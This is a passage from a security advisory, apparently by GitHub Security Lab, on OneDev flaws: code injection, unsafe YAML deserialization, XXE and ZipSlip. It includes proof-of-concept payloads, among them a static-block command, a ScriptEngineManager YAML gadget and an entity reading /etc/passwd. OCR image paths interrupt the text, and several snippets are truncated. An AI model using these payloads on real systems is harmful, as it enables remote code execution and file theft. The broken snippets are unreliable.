static {Runtime.getRuntime().exec("touch /tmp/pwned1");}public String input1() {

Resulting in the injection of a static constructor that will run our arbitrary code. Injection is not only possible in text patterns, but in many other parameters.


This issue may lead to post-auth RCE

Issue 8: Post-Auth Unsafe Yaml deserialization

In order to parse and process YAML files, OneDev uses SnakeYaml which by default (when not using SafeConstructor) allows the instantiation of arbitrary classes. We can leverage that to run arbitrary code by instantiating classes such as javax.script.ScriptEngineManager and using URLClassLoader to load the script engine provider, resulting in the instantiation of a user controlled class. We can observe that by providing the following BuildSpec:

version: 1
- name: !!javax.script.ScriptEngineManager [!! [[!! [""]]]]
  image: asdasd
  - asd
  retrieveSource: true
  cloneCredential: !DefaultCredential {}cpuRequirement: 250m
  memoryRequirement: 128m
  retryCondition: never
  maxRetries: 3
  retryDelay: 30
  timeout: 3600

By intercepting the resolution of the provided URL, we can prove that the payload succeeded.


Thisissue may lead to post-auth RCE

Issue 9: Post-Auth External Entity Expansion (XXE)

When BuildSpec is provided in XML format, the spec is processed by XmlBuildSpecMigrator.migrate(buildSpecString); which processes the XML document without preventing the expansion of external entities. These entities can be configured to read arbitrary files from the file system and dump their contents in the final XML document to bemigrated. If the files are dumped in properties included in the YAML file, it will be possible for an attacker to read them. Eg:

<?xml version="1.0"?>
<!DOCTYPE data [
<!ENTITY file SYSTEM "file:///etc/passwd">

If not, it is possible for an attacker to exfiltrate the contents of these files Out Of Band.


This issue may lead to arbitrary file read

Issue 10: ZipSlip Arbitrary File Upload

KubernetesResource REST endpoint untars user controlled data from the request body:

    public Response uploadOutcomes(InputStream is) {
        JobContext context = jobManager.getJobContext(getJobToken(), true);
        TarUtils.untar(is, context.getServerWorkspace());
        return Response.ok().build();TarUtils is a custom library method leveraging Apache Commons Compress. During the untar process, there are no checks in place to prevent an untarred file from traversing the file system and overriding an existing file.

A test Tar file can be found in the snyck repo.

For a successful exploitation, the attacker requires a valid __JobToken__ which may not be possible to get without using any of the other reported vulnerabilities. But this should be considered a vulnerability in io.onedev.commons.utils.TarUtils since it lives in a different artifact and can affect other projects using it.

To reproduce the vulnerability, we can use the following Java code:

import io.onedev.commons.utils.TarUtils;

public class UnTarTest {
  public static void main(String[] args) {
    try {FileInputStream is = new FileInputStream(new File("./zip-slip.tar"));
      TarUtils.untar(is, new File("./dest"));
    } catch (Exception e) {

Using the Tar filementioned above, after running the untar operation, a file called evil.txt should be extracted to /tmp


This issue may lead to arbitrary file write




These issues was discovered and reported by GHSL team member @pwntester (Alvaro Muñoz).


You can contact the GHSL team at,please include a reference toGHSL-2020-214_223 in any communication regarding this issue.